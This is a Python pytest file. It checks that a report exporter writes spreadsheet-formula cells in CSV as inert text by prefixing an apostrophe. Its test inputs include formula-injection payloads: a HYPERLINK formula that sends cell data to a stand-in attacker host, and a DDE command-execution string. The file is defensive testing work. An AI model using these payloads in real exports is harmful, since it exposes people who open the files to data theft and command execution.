"""CSV cells a spreadsheet would evaluate as formulas are written as text."""

from __future__ import annotations

import csv
import io

import pytest

from reports import tables
from reports.model import Exception_


def _exceptions_csv(reason: str, approver: str = "alice") -> dict[str, str]:
    waiver = Exception_(
        index=7,
        control="iso-a5.3",
        digest="sha256:" + "ab" * 32,
        target="production",
        approver=approver,
        granted_at="2026-01-01T00:00:00Z",
        expires_at="2026-02-01T00:00:00Z",
        reason=reason,
        decisions_covered=["d-1", "d-2"],
    )
    frame = tables._frame([waiver], tables.EXCEPTION_COLUMNS)
    (row,) = csv.DictReader(io.StringIO(tables.csv_bytes(frame).decode(), newline=""))
    return row


@pytest.mark.parametrize(
    "reason",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"details")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_is_text(reason: str) -> None:
    row = _exceptions_csv(reason, approver="=1+1")
    assert row["reason"] == "'" + reason
    assert row["approver"] == "'=1+1"


@pytest.mark.parametrize(
    "reason",
    ["quarterly review, see CHG-17", "a = b", "", "'quoted'", "one\rtwo", "one\r\ntwo\nthree"],
)
def test_other_text_is_as_given(reason: str) -> None:
    row = _exceptions_csv(reason)
    assert row["reason"] == reason
    assert row["approver"] == "alice"
    assert row["decisions_covered"] == "d-1;d-2"
    assert row["index"] == "7"
